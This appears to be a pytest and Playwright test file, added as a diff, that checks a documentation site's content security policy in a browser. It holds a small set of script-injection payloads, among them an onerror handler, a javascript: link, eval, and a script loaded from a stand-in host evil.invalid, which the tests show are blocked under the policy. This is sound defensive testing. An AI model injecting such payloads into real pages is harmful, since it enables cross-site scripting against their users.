@@ -1,0 +1,145 @@
+"""The content security policy holds in a browser, on every page, while a reader uses what there is."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
+from tests.browser.serving import CHROMIUM, served
+from tests.support import small
+
+pytestmark = [
+    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
+    pytest.mark.xdist_group("policy"),
+]
+
+LISTEN = """addEventListener("securitypolicyviolation", (event) =>
+  console.error("violation", event.violatedDirective, event.blockedURI))"""
+
+ATTACKS = {
+    "inline script": """const script = document.createElement("script");
+        script.textContent = "window.ran = 1"; document.body.append(script)""",
+    "handler": """document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.ran = 1'>")""",
+    "javascript address": """const link = document.createElement("a"); link.href = "javascript:window.ran=1";
+        document.body.append(link); link.click()""",
+    "foreign script": """const script = document.createElement("script");
+        script.src = "https://evil.invalid/x.js"; document.body.append(script)""",
+    "style": """document.body.insertAdjacentHTML("beforeend", "<p style='--ran: 1' class=ran>x</p>");
+        const found = getComputedStyle(document.querySelector(".ran")).getPropertyValue("--ran");
+        window.ran = found || undefined""",
+    "eval": """setTimeout(() => { try { eval("window.ran = 1") } catch {} })""",
+}
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("policy")
+    small.make(root)
+    assert small.build(root) == 0
+    return root / "site"
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        yield playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
+
+
+def headers_of(site: Path) -> dict[str, str]:
+    """What `_headers` says for every page."""
+    lines = (site / "_headers").read_text().splitlines()
+    assert lines[0] == "/*"
+    return dict(line.strip().split(": ", 1) for line in lines[1:])
+
+
+@contextmanager
+def watched(browser: Browser, root: str, **options: object) -> Iterator[tuple[BrowserContext, list[str]]]:
+    """A context that notes each violation, console error, failed request and request to another host."""
+    context = browser.new_context(**options)  # type: ignore[arg-type]
+    context.add_init_script(LISTEN)
+    complaints: list[str] = []
+    host = re.match(r"https?://[^/]+/", root)
+    assert host is not None
+    context.on("console", lambda m: complaints.append(m.text) if m.type in ("error", "warning") else None)
+    context.on("weberror", lambda e: complaints.append(str(e.error)))
+    # What the browser itself gives up, since the test goes on to the next page, is no complaint.
+    context.on(
+        "requestfailed",
+        lambda r: None if r.failure == "net::ERR_ABORTED" else complaints.append(f"{r.failure}: {r.url}"),
+    )
+    context.on(
+        "request",
+        lambda r: None if r.url.startswith((host[0], "data:")) else complaints.append(f"abroad: {r.url}"),
+    )
+    yield context, complaints
+    context.close()
+
+
+def addresses(site: Path) -> list[str]:
+    return sorted(
+        path.relative_to(site).as_posix().removesuffix("index.html") for path in site.rglob("*.html")
+    )
+
+
+def use(page: Page) -> None:
+    """Search, change colours twice, open what folds, follow nothing."""
+    page.keyboard.press("/")
+    page.keyboard.type("shelf")
+    page.locator(".md-search-result__link").first.wait_for(state="visible")
+    page.keyboard.press("Escape")
+    for _ in range(3):
+        page.click(".db-palette__label:not([hidden])")
+    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
+
+
+@pytest.mark.parametrize("with_headers", [False, True], ids=["as a meta tag", "and as a server's header"])
+def test_no_page_breaks_the_policy_asks_another_host_or_complains(
+    site: Path, browser: Browser, with_headers: bool
+) -> None:
+    headers = headers_of(site) if with_headers else {}
+    with served(site, headers) as root, watched(browser, root) as (context, complaints):
+        page = context.new_page()
+        for address in addresses(site):
+            if address != "404.html":  # its addresses are absolute: it works where the site is at the root
+                page.goto(f"{root}{address}", wait_until="load")
+        page.goto(root)
+        use(page)
+        assert complaints == []
+
+
+def test_search_and_menu_of_a_phone_work_under_the_policy(site: Path, browser: Browser) -> None:
+    with (
+        served(site, headers_of(site)) as root,
+        watched(browser, root, viewport={"width": 390, "height": 800}) as (context, complaints),
+    ):
+        page = context.new_page()
+        page.goto(root)
+        page.get_by_role("button", name="Menu").click()
+        page.locator("#db-nav").wait_for(state="visible")
+        page.keyboard.press("Escape")
+        page.locator(".md-search__input").click()
+        page.keyboard.type("shelf")
+        page.locator(".md-search-result__link").first.wait_for(state="visible")
+        assert complaints == []
+
+
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
+def test_what_slips_into_a_page_does_not_run(site: Path, browser: Browser, attack: str) -> None:
+    """The policy of the page alone; each attack works on a page without it."""
+    with served(site) as root:
+        for strict in (True, False):
+            context = browser.new_context(bypass_csp=not strict)
+            page = context.new_page()
+            page.route(
+                "https://evil.invalid/*",
+                lambda route: route.fulfill(body="window.ran = 1", content_type="text/javascript"),
+            )
+            page.goto(root)
+            page.evaluate(attack)
+            page.wait_for_timeout(100)
+            assert page.evaluate("window.ran !== undefined") is not strict
+            context.close()
